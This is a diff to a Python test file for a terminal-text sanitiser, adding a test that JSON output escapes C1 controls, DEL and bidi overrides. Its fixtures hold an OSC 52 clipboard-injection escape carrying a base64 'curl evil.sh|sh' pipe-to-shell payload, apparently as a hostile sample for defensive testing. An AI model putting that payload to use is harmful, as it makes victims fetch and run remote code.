@@ -5,7 +5,7 @@ from __future__ import annotations
 from hypothesis import given
 from hypothesis import strategies as st
 
-from engine.terminal_text import cut, printable
+from engine.terminal_text import cut, json_printable, printable
 
 # The attacks of issue 29, as a hostile recording would carry them.
 OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # base64 of "curl evil.sh|sh"
@@ -56,3 +56,15 @@ def test_no_control_character_survives(text: str) -> None:
             code = ord(char)
             assert not (code < 32 and char not in allowed)
             assert not (0x7F <= code <= 0x9F)
+
+
+def test_json_printable_escapes_what_the_encoder_leaves_raw() -> None:
+    import json
+
+    data = {"t": f"{C1_CSI} del\x7f bidi\u202e {OSC52_CLIPBOARD} é"}
+    encoded = json.dumps(data, ensure_ascii=False)
+    assert "\x9b" in encoded  # the encoder leaves C1 raw with ensure_ascii=False
+    safe = json_printable(encoded)
+    assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F or c == "\u202e" for c in safe)
+    assert "\\u009b" in safe and "\\u007f" in safe and "\\u202e" in safe and "é" in safe
+    assert json.loads(safe) == data  # the same document
